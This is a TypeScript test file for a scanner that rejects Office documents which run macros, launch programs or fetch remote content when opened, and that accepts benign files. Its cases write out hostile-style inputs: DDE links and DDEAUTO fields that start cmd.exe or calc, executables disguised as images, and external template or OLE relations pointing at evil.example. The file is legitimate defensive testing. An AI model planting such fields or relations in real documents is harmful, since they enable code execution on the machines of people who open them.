/** Office files that run, start or fetch something when they are opened. */
import { readdirSync, readFileSync } from 'node:fs'
import { strToU8 } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { gather, writeLedger } from '../../engine/documents/index.ts'
import { DOCX, rawZip } from './sample-hostile.ts'
import { type Look, openLook } from './sample-look.ts'
import { docx, xlsx } from './sample-zip.ts'

let told: Look
beforeAll(async () => {
  told = await openLook()
})
afterAll(() => told.close())

const rels = (type: string, more = '') =>
  `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="http://evil.example/a" ${more}/></Relationships>`

describe('what runs when it is opened', () => {
  test.each<[string, string, () => Uint8Array]>([
    [
      'macro',
      'a docm by its new name',
      () =>
        docx({
          '[Content_Types].xml': strToU8(
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#x45;nabled.main+xml"/></Types>',
          ),
        }),
    ],
    ['macro', 'a vbaProject', () => docx({ 'word/vbaProject.bin': strToU8('x') })],
    [
      'embedded',
      'a vbaProject by another name',
      () => docx({ 'word/media/image1.png': Buffer.from('d0cf11e0a1b11ae100', 'hex') }),
    ],
    ['macro', 'its relation', () => docx({ 'word/_rels/document.xml.rels': strToU8(rels('vbaProject')) })],
    ['macro', 'macro sheets of Excel 4', () => xlsx({ 'xl/macrosheets/sheet1.xml': strToU8('<a/>') })],
    ['macro', 'ActiveX', () => docx({ 'word/activeX/activeX1.xml': strToU8('<a/>') })],
    [
      'macro',
      'a link to a program (DDE) of a sheet',
      () =>
        xlsx({
          'xl/externalLinks/externalLink1.xml': strToU8(
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          ),
        }),
    ],
    [
      'macro',
      'a field that starts one',
      () =>
        docx({
          'word/x.xml': strToU8(
            `<d>${'<p/>'.repeat(30_000)}<w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\cmd.exe</w:instrText></d>`,
          ),
        }),
    ],
    [
      'macro',
      'the same in short',
      () => docx({ 'word/x.xml': strToU8('<w:fldSimple w:instr=" DDE cmd"/>') }),
    ],
    ['macro', 'a document with macros inside', () => docx({ 'word/embeddings/a.xlsm': strToU8('x') })],
    [
      'macro',
      'macros in a table behind a diagram',
      () => docx({ 'word/embeddings/a.xlsx': xlsx({ 'xl/vbaProject.bin': strToU8('x') }) }),
    ],
    [
      'embedded',
      'an object of another program (OLE)',
      () => docx({ 'word/embeddings/oleObject1.bin': strToU8('x') }),
    ],
    ['embedded', 'a program', () => docx({ 'word/media/setup.exe': strToU8('MZ') })],
    ['embedded', 'a program by another name', () => docx({ 'word/media/image1.png': strToU8('MZ\x90\x00') })],
    ['embedded', 'an archive by another name', () => docx({ 'word/media/image1.png': docx() })],
    [
      'embedded',
      'an office file three deep',
      () => docx({ 'word/embeddings/a.docx': docx({ 'word/embeddings/b.docx': docx() }) }),
    ],
    [
      'embedded',
      'a template from elsewhere',
      () =>
        docx({ 'word/_rels/settings.xml.rels': strToU8(rels('attachedTemplate', 'TargetMode="External"')) }),
    ],
    [
      'embedded',
      'an object from elsewhere',
      () =>
        docx({ 'word/_rels/document.xml.rels': strToU8(rels('ole&#x4f;bject', 'TargetMode="External"')) }),
    ],
  ])('%s: %s', async (code, _what, make) => {
    expect((await told(make())).code).not.toBe('ok')
    const name = make().toString().includes('xl/workbook.xml') ? 'a.xlsx' : 'a.docx'
    expect((await told(make(), nameOf(make(), name))).code).toBe(`file.${code}`)
  })

  /** The kind by what the zip holds at its top. */
  function nameOf(zip: Uint8Array, usual: string): string {
    return Buffer.from(zip).subarray(0, 2000).includes('xl/workbook.xml') ? 'a.xlsx' : usual
  }

  test.each<[string, () => Uint8Array]>([
    ['a table behind a diagram', () => docx({ 'word/embeddings/a.xlsx': xlsx() })],
    [
      'a link in the text',
      () => docx({ 'word/_rels/document.xml.rels': strToU8(rels('hyperlink', 'TargetMode="External"')) }),
    ],
    [
      'a field with the page number',
      () => docx({ 'word/x.xml': strToU8('<w:instrText> PAGE </w:instrText>') }),
    ],
    [
      'settings of a printer',
      () => docx({ 'word/printerSettings/printerSettings1.bin': strToU8('\x01\x02') }),
    ],
    [
      'data of an add-in in its own encoding',
      () => docx({ 'customXml/item1.xml': Buffer.from('\ufeff<a/>', 'utf16le') }),
    ],
  ])('%s is no danger', async (_what, make) => {
    expect((await told(make())).code).toBe('ok')
  })
})

test('what honest programs wrote is taken in', async () => {
  const fixtures = new URL('../../engine/documents/fixtures/', import.meta.url)
  for (const name of readdirSync(fixtures))
    expect((await told(readFileSync(new URL(name, fixtures)), name)).code, name).toBe('ok')
  const columns = [{ label: 'a', type: 'text' as const }]
  const own = await gather(writeLedger({ title: 't', columns, rows: [['=1']], sheetName: 's' }))
  expect((await told(own, 'own.xlsx')).code).toBe('ok')
  expect((await told(rawZip(DOCX), 'a.docx')).code).toBe('ok')
})
